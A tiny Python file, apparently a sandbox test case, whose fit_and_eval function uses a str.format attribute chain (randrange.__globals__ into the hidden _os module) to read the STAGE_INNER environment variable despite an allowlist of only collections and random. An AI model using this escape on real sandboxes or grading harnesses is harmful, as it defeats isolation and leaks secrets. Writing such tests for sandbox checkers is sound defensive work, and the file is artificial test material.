"""Takes the method from a text that is no text by its class."""
# wants: inside
# allows: collections random

import collections
import random


def fit_and_eval(data):
    text = collections.UserString("{0.randrange.__globals__[_os].environ[STAGE_INNER]}")
    return {"got": str(getattr(text, "format")(random.Random))}
